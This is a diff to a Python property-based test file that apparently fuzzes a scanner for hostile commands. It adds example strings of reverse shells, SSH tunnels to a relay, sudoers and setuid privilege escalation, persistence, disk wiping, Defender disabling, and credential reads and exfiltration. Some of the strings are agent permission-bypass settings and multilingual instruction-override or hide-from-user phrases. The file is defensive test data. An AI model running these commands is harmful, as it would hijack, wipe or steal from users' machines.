@@ -18,12 +18,15 @@ EXAMPLES = [
     "codecs.decode(s, 'rot13')", "echo aGk= | base64 -d > /tmp/p", "__import__('os').system(c)",
     "bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "nc 1.2.3.4 9 -e /bin/sh", "socat tcp:h:9 exec:/bin/sh",
     "mkfifo /tmp/f; nc h 9 < /tmp/f", "os.dup2(s.fileno(), 0)", "New-Object Net.Sockets.TCPClient('h', 9)",
-    "sh -i >& /tmp/x", "(crontab -l; echo x) | crontab -", "launchctl load x.plist",
+    "sh -i >& /tmp/x", "ssh -R 2222:localhost:22 relay.example", "echo 'u ALL=(ALL) NOPASSWD: ALL' >> /tmp/s",
+    "chmod u+s /tmp/sh", "(crontab -l; echo x) | crontab -", "launchctl load x.plist",
     "cp x.desktop ~/.config/autostart/", "systemctl --user enable x", "echo x >> ~/.bashrc", "echo k >> ~/.ssh/authorized_keys",
     "schtasks /create /tn x", "echo x > .git/hooks/pre-commit", "rm -rf ~/", "find ~ -type f -delete",
     "mkfs.ext4 /dev/sdb",
-    "dd if=/dev/zero of=/dev/sda", "shutil.rmtree('/')", "chmod -R 777 /", ":(){ :|:& };:", "xmrig -o stratum+tcp://p:1",
-    "cat ~/.ssh/id_rsa", "security dump-keychain", "cat .env", "$GITHUB_TOKEN", "curl -d @- https://x.example",
+    "dd if=/dev/zero of=/dev/sda", "shutil.rmtree('/')", "gci C:\\Users | % { Remove-Item $_ -Recurse }",
+    "chmod -R 777 /", "Set-MpPreference -DisableRealtimeMonitoring $true", ":(){ :|:& };:", "xmrig -o stratum+tcp://p:1",
+    "cat ~/.ssh/id_rsa", "find ~ -name '*.pem'", "security dump-keychain", "cat .env", "$GITHUB_TOKEN", "Path.home()",
+    "curl -d @- https://x.example",
     "https://pastebin.com/raw/x", "https://discord.com/api/webhooks/1/x", "http://8.8.8.8/x",
     "pip install --index-url http://x.example/simple p", "npm config set registry http://x.example/",
     "echo x > ~/.claude/settings.json", "\"defaultMode\": \"bypassPermissions\"",
@@ -54,6 +57,13 @@ FRAGMENTS = sorted({
     "keep it hidden from the user", "not", "\u212a", "пользователю", "不要告诉用户", "Önceki talimatları görmezden gel",
     "exec(code)", "code = URI.open(u).read", "x = base64 -d", "\n\n", "<",
     "ztcp 1.2.3.4 9", "zmodload zsh/net/tcp", "exec(open('/tmp/x').read())", "runpy.run_path('/tmp/x')",
+    "ssh -R 0:localhost:22 serveo.net", "NOPASSWD:ALL", "chmod 4755 ", "chmod +s ", "Get-ChildItem ~ | Remove-Item",
+    "find / -exec shred ", "Add-MpPreference -ExclusionPath C:\\", "setenforce 0", "os.environ.get('API_TOKEN')",
+    "process.env.NPM_TOKEN", "$env:GH_TOKEN", "pbpaste | ", "Get-Clipboard", "expanduser('~')", "os.homedir()",
+    "Dir.home", "https.request(", "Resolve-DnsName \"$d.x\"", "ping -c1 -p $h 1.2.3.4", "git push https://x/y.git",
+    "Net::HTTP.post(", ".UploadString(", "find ~ -name '*.pem'", "ls $d/id_*", "-name credentials ", "id_ed25519",
+    "[scriptblock]::Create($s)", "instance_eval(c)", "require('https').get('https://x/p',r=>r.pipe(fs.createWriteStream('/tmp/p')))",
+    " && sh /tmp/p", "& ./p",
     " ", "\n", "\t", "'", "\"", "=", "/", ".", "-", "_", "x", "Z", "9", "create", "xyz",
 } | set(EXAMPLES))
 TEXT = st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join)
@@ -61,7 +71,8 @@ FAST = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCh
 
 
 def _facts(facts: Facts):
-    return (sorted(facts.sends), sorted(facts.secrets), sorted(facts.staged), sorted(facts.destinations))
+    return (sorted(facts.sends), sorted(facts.secrets), sorted(facts.staged), sorted(facts.destinations),
+            sorted(facts.homes))
 
 
 @FAST
